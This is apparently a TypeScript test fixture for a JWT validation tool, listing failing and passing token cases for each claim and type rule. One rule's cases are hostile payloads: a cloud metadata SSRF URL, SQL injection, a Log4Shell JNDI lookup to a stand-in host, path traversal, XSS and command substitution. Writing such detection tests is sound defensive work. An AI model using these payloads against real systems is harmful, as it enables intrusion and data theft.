import {
  accessClaims,
  accessToken,
  idClaims,
  idToken,
  jws,
  now,
  plain,
  type RuleCases,
  rs256,
  token,
  withClaims,
  withHeader,
} from './test-token.ts'

const good = token(jws(rs256, plain))
const clock = { nowSeconds: now }
const nested = jws(rs256, plain)

/** Claims of every JWT, and types. */
export const claimCases: RuleCases = {
  'JWT-C01': {
    bad: [withClaims({ exp: undefined }), idToken({ exp: undefined }, { as: 'id_token' })],
    good: [good],
  },
  'JWT-C02': {
    bad: [
      withClaims({ exp: String(now) }),
      withClaims({ nbf: null }),
      withClaims({ iat: [now] }),
      withClaims({ auth_time: true }),
    ],
    good: [good, withClaims({ nbf: now + 0.5 })],
  },
  'JWT-C03': {
    bad: [
      withClaims({ exp: now * 1000 }),
      withClaims({ iat: now * 1000 }),
      withClaims({ exp: now + 60 * 31_557_600 }, clock),
    ],
    good: [good, token(good.token, clock)],
  },
  'JWT-C04': {
    bad: [withClaims({ exp: now }, clock), withClaims({ exp: now - 100 }, { ...clock, skew: 60 })],
    good: [token(good.token, clock), withClaims({ exp: now - 30 }, { ...clock, skew: 60 })],
  },
  'JWT-C05': {
    bad: [withClaims({ nbf: now + 61 }, { ...clock, skew: 60 }), withClaims({ iat: now + 10 }, clock)],
    good: [token(good.token, clock), withClaims({ nbf: now + 60 }, { ...clock, skew: 60 })],
  },
  'JWT-C06': {
    bad: [
      withClaims({ iat: now, exp: now }),
      withClaims({ nbf: now + 9000 }),
      withClaims({ auth_time: now + 5 }),
    ],
    good: [good, withClaims({ nbf: now - 60, auth_time: now - 300 })],
  },
  'JWT-C07': {
    bad: [
      accessToken({ exp: now + 7200 }),
      accessToken({ exp: now + 200_000 }),
      idToken({ exp: now + 7200 }),
      withClaims({}, { policy: { maxLifetime: 600 } }),
    ],
    good: [
      accessToken(),
      withClaims({ exp: now + 900_000 }),
      accessToken({ exp: now + 7200 }, { policy: { maxLifetime: 9000 } }),
    ],
  },
  'JWT-C08': {
    bad: [
      { iss: undefined },
      { iss: 7 },
      { iss: 'acme' },
      { iss: 'http://acme.test' },
      { iss: 'https://acme.test?a=1' },
      { iss: 'https://acme.test#x' },
    ].map((claims) => withClaims(claims)),
    good: [good, withClaims({ iss: 'accounts.google.com' })],
  },
  'JWT-C09': {
    bad: [withClaims({ aud: undefined }), withClaims({ aud: [] }, { policy: { manyRecipients: true } })],
    good: [good, withClaims({ aud: ['a'] })],
  },
  'JWT-C10': {
    bad: [
      withClaims({}, { policy: { aud: ['billing'] } }),
      withClaims({ aud: undefined }, { policy: { aud: ['billing'] } }),
    ],
    good: [
      withClaims({}, { policy: { aud: ['billing', 'orders'] } }),
      withClaims({ aud: ['x', 'orders'] }, { policy: { aud: ['orders'] } }),
    ],
  },
  'JWT-C11': {
    bad: [withClaims({ aud: ['a', 'b'] }), withClaims({ aud: '*' }), withClaims({ aud: 'api' })],
    good: [good, withClaims({ aud: 'api://orders' })],
  },
  'JWT-C12': {
    bad: [{ sub: undefined }, { sub: 7 }, { sub: '' }, { sub: 'x'.repeat(256) }, { sub: 'Zoë' }].map(
      (claims) => withClaims(claims),
    ),
    good: [good, withClaims({ sub: 'x'.repeat(255) })],
  },
  'JWT-C13': { bad: [withClaims({ jti: undefined }), withClaims({ jti: 7 })], good: [good] },
  'JWT-C14': {
    bad: [
      { password: 'hunter2' },
      { settings: { api_key: 'abc' } },
      { email: 'ada@acme.test' },
      { card: '4111 1111 1111 1111' },
      { phone_number: '+491701234567' },
      { note: '078-05-1120' },
      { ssn: '1' },
      { key: '-----BEGIN RSA PRIVATE KEY-----\nx' },
      { auth: 'Bearer abcdefghijklmnopqrstuvwxyz' },
      { client_secret: 'x' },
    ].map((claims) => withClaims(claims)),
    good: [
      good,
      idToken({ email: 'ada@acme.test', email_verified: true }),
      withClaims({ order: '4111 1111 1111 1112', sid: 'password' }),
    ],
  },
  'JWT-C15': {
    bad: [
      { expires: 1, exp: undefined },
      { issuer: 'x', iss: undefined },
      { Exp: 1, exp: undefined },
      { scopes: 'a' },
    ].map((claims) => withClaims(claims)),
    good: [good, withClaims({ expires: 1 }), withClaims({ tenant: 'x', constructor: 'y' })],
  },
  'JWT-C16': {
    bad: [
      'http://169.254.169.254/latest/meta-data',
      "x' OR '1'='1",
      ['$', '{jndi:ldap://evil.test/a}'].join(''),
      '../../etc/passwd',
      '<script>alert(1)</script>',
      '$(id)',
      'http://10.0.0.1/x',
    ].map((picture) => withClaims({ picture })),
    good: [
      good,
      withClaims({ picture: 'https://cdn.acme.test/a.png', name: "Conan O'Brien", note: 'a; b & c (d) * 5' }),
    ],
  },
  'JWT-C17': {
    bad: [withClaims({ assertion: nested }), withClaims({ act: { token: nested } })],
    good: [good, withClaims({ version: '1.2.3', host: 'eyes.acme.test' })],
  },

  'JWT-T01': {
    bad: [
      token(jws(rs256, { ...plain, events: { 'http://schemas.openid.net/event/backchannel-logout': {} } })),
      token(jws({ alg: 'RS256' }, { response_type: 'code', client_id: 'web' })),
      token(jws(rs256, { ...plain, iss: 'web', sub: 'web' })),
    ],
    good: [
      token(jws({ alg: 'RS256', typ: 'oauth-authz-req+jwt' }, { response_type: 'code', client_id: 'web' })),
    ],
  },
  'JWT-T02': {
    bad: [withHeader({ typ: 'application/at+jwt' })],
    good: [good, withHeader({ typ: 'at+jwt' })],
  },
  'JWT-T03': {
    bad: [
      token(jws({ alg: 'RS256', typ: 'logout+jwt' }, idClaims), { as: 'id_token' }),
      accessToken({}, { as: 'id_token' }),
      token(jws({ alg: 'RS256', typ: 'dpop+jwt' }, plain), { flow: { usedAs: 'bearer' } }),
    ],
    good: [accessToken({}, { flow: { usedAs: 'bearer' } }), idToken({}, { as: 'id_token' })],
  },
  'JWT-T04': {
    bad: [token(jws(rs256, { ...accessClaims, nonce: 'n-1' }))],
    good: [
      good,
      accessToken({ nonce: 'n-1' }),
      token(jws(rs256, { ...accessClaims, nonce: 'n-1', token_use: 'id' })),
    ],
  },
  'JWT-T05': {
    bad: [withHeader({ typ: 5 }), withHeader({ typ: ['JWT'] }), withHeader({ typ: null })],
    good: [good, withHeader({ typ: undefined })],
  },
}
